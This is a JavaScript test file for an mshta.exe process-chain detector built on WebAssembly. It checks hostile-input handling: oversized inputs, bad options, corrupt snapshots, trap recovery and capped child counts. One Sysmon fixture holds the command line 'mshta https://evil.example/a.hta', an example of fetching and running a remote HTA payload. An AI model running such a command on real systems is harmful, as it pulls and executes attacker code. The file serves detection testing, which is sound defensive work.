// Issue 16 (hostile input) on the JS side: stable error codes, inputs too
// large for wasm32 refused before allocation, a WebAssembly trap that drops
// the instance and recreates the module instead of poisoning it, options
// that must be plain objects, and type errors that name the key. Needs a
// built package (bash scripts/build.sh).

import { test } from "node:test";
import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { dirname, resolve } from "node:path";
import { fileURLToPath } from "node:url";

import { analyze, Detector } from "../../pkg/node.mjs";

const here = dirname(fileURLToPath(import.meta.url));
const require = createRequire(import.meta.url);
const { createApi, MAX_INPUT_BYTES } = require(resolve(here, "../../pkg/dist/api.cjs"));

const line = (pid, image, extra = {}) =>
  JSON.stringify({
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Hostname: "PC1",
    UtcTime: "2024-05-01 10:00:00.000",
    ProcessGuid: `{11111111-0000-0000-0000-${String(pid).padStart(12, "0")}}`,
    ProcessId: String(pid),
    Image: image,
    ...extra,
  });

test("an input larger than wasm32 takes is refused before allocation, with a code", () => {
  class Huge extends Uint8Array {
    get byteLength() {
      return MAX_INPUT_BYTES + 1;
    }
  }
  const huge = new Huge(4);
  assert.throws(() => analyze(huge), (e) => e.code === "MSHTA_INPUT_TOO_LARGE" && /split it/.test(e.message));
  const d = new Detector();
  assert.throws(() => d.push(huge), (e) => e.code === "MSHTA_INPUT_TOO_LARGE");
  // The detector is still usable.
  assert.equal(d.push(line(5, "C:\\Windows\\System32\\mshta.exe") + "\n").accepted, 1);
  d.free();
});

test("options must be plain objects; type errors name the key; long messages are cut", () => {
  for (const bad of [[600], new Map([["window_seconds", 1]]), "x", 5]) {
    assert.throws(() => analyze("", bad), (e) => e.code === "MSHTA_CONFIG" && /plain object/.test(e.message));
    assert.throws(() => new Detector(bad), (e) => e.code === "MSHTA_CONFIG");
  }
  assert.throws(
    () => analyze("", { min_score: "high" }),
    (e) => e.code === "MSHTA_CONFIG" && /min_score: invalid type/.test(e.message) && !/line 1/.test(e.message),
  );
  assert.throws(() => analyze("", { allow: { hosts: "pc1" } }), (e) => /allow\.hosts: /.test(e.message));
  const pattern = "(" + "a".repeat(100_000);
  assert.throws(
    () => analyze("", { allow: { command_lines: [pattern] } }),
    (e) => e.code === "MSHTA_CONFIG" && e.message.length < 500,
  );
});

test("a bad snapshot fails at restore with MSHTA_SNAPSHOT", () => {
  const d = new Detector();
  d.push(line(5, "C:\\Windows\\System32\\mshta.exe") + "\n");
  const snap = d.snapshot();
  d.free();
  const bad = snap.slice(0, snap.length - 3);
  assert.throws(() => Detector.restore(bad), (e) => e.code === "MSHTA_SNAPSHOT" && /snapshot/.test(e.message));
});

test("a WebAssembly trap drops the instance, recreates the module and says so", () => {
  let instances = 0;
  const trapping = { on: false };
  const makeGlue = () => {
    const id = ++instances;
    class FakeDetector {
      constructor() {
        this.id = id;
      }
      pushBytes() {
        if (trapping.on) throw new WebAssembly.RuntimeError("unreachable");
        return { events: 1, instance: id };
      }
      report() {
        return { instance: id };
      }
      free() {
        if (id !== instances) throw new Error("attempted to take ownership of Rust value while it was borrowed");
      }
    }
    return { Detector: FakeDetector, analyzeBytes: () => ({ instance: id }), version: () => "x" };
  };
  const api = createApi(makeGlue(), undefined, makeGlue);
  const a = new api.Detector();
  const b = new api.Detector();
  assert.equal(a.push("{}\n").instance, 1);
  trapping.on = true;
  assert.throws(() => a.push("{}\n"), (e) => e.code === "MSHTA_TRAP" && /recreated/.test(e.message));
  trapping.on = false;
  assert.equal(instances, 2, "the module was recreated");
  // Detectors of the trapped instance are lost, with the same code; freeing them is harmless.
  assert.throws(() => a.report(), (e) => e.code === "MSHTA_TRAP");
  assert.throws(() => b.report(), (e) => e.code === "MSHTA_TRAP");
  a.free();
  b.free();
  // The API works again on the new instance.
  const c = new api.Detector();
  assert.equal(c.push("{}\n").instance, 2);
  assert.equal(api.analyze("{}").instance, 2);
  c.free();
  assert.throws(() => c.report(), (e) => e.code === "MSHTA_FREED");
});

test("a lone surrogate from JSON.stringify does not hide the chain (array input)", () => {
  const root = JSON.parse(
    line(100, "C:\\Windows\\System32\\mshta.exe", { CommandLine: "mshta https://evil.example/a\ud800.hta" }),
  );
  const child = JSON.parse(
    line(200, "C:\\Windows\\System32\\cmd.exe", {
      UtcTime: "2024-05-01 10:00:01.000",
      ParentProcessGuid: root.ProcessGuid,
      ParentProcessId: "100",
      ParentImage: root.Image,
      ParentCommandLine: root.CommandLine,
    }),
  );
  const report = analyze([root, child]);
  assert.equal(report.stats.rejected, 0, JSON.stringify(report.errors));
  assert.equal(report.chains.length, 1);
  assert.equal(report.chains[0].children.length, 1);
  assert.equal(report.stats.repaired_items, 2);
});

test("one mshta with many children: capped per chain, counted, memory bounded", () => {
  const d = new Detector({ max_chain_children: 20, max_processes: 1000 });
  d.push(line(1, "C:\\Windows\\System32\\mshta.exe") + "\n");
  let text = "";
  for (let i = 0; i < 5000; i++) {
    text +=
      line(1000 + i, "C:\\Windows\\System32\\cmd.exe", {
        ParentProcessGuid: "{11111111-0000-0000-0000-000000000001}",
        ParentProcessId: "1",
        ParentImage: "C:\\Windows\\System32\\mshta.exe",
      }) + "\n";
  }
  d.push(text);
  const r = d.finish();
  d.free();
  assert.equal(r.chains[0].children.length, 20);
  assert.equal(r.chains[0].children_total, 5000);
  assert.equal(r.chains[0].truncated, true);
  assert.ok(r.stats.processes_tracked <= 1000);
});
